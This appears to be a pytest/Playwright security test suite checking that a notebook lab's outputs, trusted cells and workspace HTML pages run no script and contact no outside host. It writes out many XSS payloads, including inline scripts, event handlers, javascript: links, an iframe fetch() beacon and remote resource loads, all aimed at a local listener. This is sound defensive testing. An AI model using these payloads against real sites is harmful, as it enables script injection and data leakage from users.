"""What code displays runs nothing in the person's browser and tells nobody, in a trusted cell neither."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from textwrap import dedent

import pytest
from playwright.sync_api import Page

from tests.lab.conftest import TOKEN, LabServer, cells, open_notebook

SHOWN = "the end of what is shown"


class Listener(ThreadingHTTPServer):
    """Somebody else's server, which outputs try to tell something."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Recorder)
        self.heard: list[str] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class _Recorder(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Listener)
        self.server.heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with Listener() as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture
def elsewhere(page: Page, listener: Listener) -> Iterator[Listener]:
    """Nothing may have run when the test is over, and nobody have been told."""
    listener.heard.clear()
    yield listener
    frames = [frame for frame in page.frames if "/files/" not in frame.url and "/nbconvert/" not in frame.url]
    # In the others scripts are off, for those of a test too.
    assert [frame.evaluate("window.hacked") for frame in frames] == [None] * len(frames)
    assert listener.heard == []


def attack(url: str) -> str:
    """HTML that would act in every way that HTML knows."""
    return dedent(f"""
        <script>window.hacked = 'inline'</script>
        <script src="/files/evil/workspace/evil.js"></script>
        <script src="{url}/script.js"></script>
        <img src="x" onerror="window.hacked = 'onerror'"><img src="{url}/image.png">
        <svg onload="window.hacked = 'onload'"><script>window.hacked = 'svg'</script></svg>
        <a id="press" href="javascript:window.hacked = 'link'">press</a>
        <button id="command" data-commandlinker-command="notebook:insert-cell-below">press</button>
        <iframe srcdoc="<script>parent.hacked = window.hacked = 'frame'; fetch('{url}/frame')</script>"></iframe>
        <iframe src="/files/evil/workspace/evil.html"></iframe>
        <object data="{url}/object"></object><embed src="{url}/embed"><video src="{url}/video" autoplay></video>
        <link rel="stylesheet" href="{url}/style.css"><style>@import url("{url}/import.css")</style>
        <p style="background: url('{url}/background.png')">text</p>
        <details open ontoggle="window.hacked = 'toggle'"><summary>more</summary></details>
        <p>{SHOWN}</p>
    """)


@pytest.fixture(scope="module")
def evil(lab: LabServer, listener: Listener) -> str:
    """A session whose cells display attacks."""
    page = (
        f"<script>parent.hacked = window.hacked = 'file'; fetch('{listener.url}/file')</script>{attack(listener.url)}"
    )
    vega = {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "data": [{"name": "t", "url": f"{listener.url}/v"}],
    }
    bundles: list[dict[str, object]] = [
        {"text/html": attack(listener.url)},
        {
            "text/markdown": f"![a]({listener.url}/markdown.png) [b](javascript:window.hacked=1)\n\n{attack(listener.url)}"
        },
        {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.hacked = 'svg'</script></svg>"},
        {"application/javascript": "window.hacked = 'javascript'", "text/plain": "javascript"},
        {"application/vnd.vega.v5+json": vega, "text/plain": "vega"},
    ]
    shows = [f"display({bundle!r}, raw=True)" for bundle in bundles]
    isolated = f"display({bundles[0]!r}, raw=True, metadata={{'text/html': {{'isolated': True}}}})"
    files = f"open('evil.html', 'w').write({page!r}); open('evil.js', 'w').write('window.hacked = \"src\"')"
    return lab.new("evil", files, "from IPython.display import display\n" + "\n".join([*shows, isolated]))


def test_outputs_of_the_model_run_nothing_and_tell_nobody(
    lab: LabServer, page: Page, evil: str, elsewhere: Listener
) -> None:
    open_notebook(page, lab, evil)
    page.get_by_text(SHOWN).first.wait_for()
    assert page.locator(".jp-OutputArea script, .jp-OutputArea iframe:not(.jp-mod-isolated)").count() == 0
    before = len(cells(page))
    page.locator("#command, .jp-OutputArea button").first.click()
    assert len(cells(page)) == before
    page.wait_for_load_state("networkidle")


def test_the_same_in_a_trusted_cell_runs_nothing_either(
    lab: LabServer, page: Page, evil: str, elsewhere: Listener
) -> None:
    open_notebook(page, lab, evil)
    page.get_by_text(SHOWN).first.wait_for()
    page.evaluate("window.jupyterapp.shell.currentWidget.content.widgets.forEach(cell => cell.model.trusted = true)")
    page.locator(".jp-OutputArea script").first.wait_for(state="attached")
    page.locator("#press").first.click()
    page.wait_for_load_state("networkidle")


def test_a_page_of_the_workspace_is_shown_and_runs_nothing(
    lab: LabServer, page: Page, evil: str, elsewhere: Listener
) -> None:
    page.goto(f"{lab.url}/lab/tree/{evil}/workspace/evil.html?token={TOKEN}")
    page.frame_locator(".jp-HTMLViewer iframe").get_by_text(SHOWN).wait_for()
    page.get_by_text("Trust HTML").click()
    page.frame_locator(".jp-HTMLViewer iframe").get_by_text(SHOWN).wait_for()
    page.wait_for_load_state("networkidle")


def test_a_page_opened_by_itself_runs_nothing(lab: LabServer, page: Page, evil: str, elsewhere: Listener) -> None:
    page.goto(f"{lab.url}/lab?token={TOKEN}")
    for path in ("/files/evil/workspace/evil.html", "/nbconvert/html/evil/notebook.ipynb"):
        with page.expect_navigation(url=f"**{path}", wait_until="load") as opened:
            page.evaluate("path => { location.href = path }", path)
        assert SHOWN in opened.value.text()
        page.go_back()


def test_the_page_does_not_hold_the_token(lab: LabServer, page: Page) -> None:
    page.goto(f"{lab.url}/lab?token={TOKEN}")
    page.wait_for_function("window.jupyterapp")
    assert TOKEN not in page.content() + page.url
    assert "script-src" in lab.ask("GET", "/lab/nowhere/at/all").headers["Content-Security-Policy"]
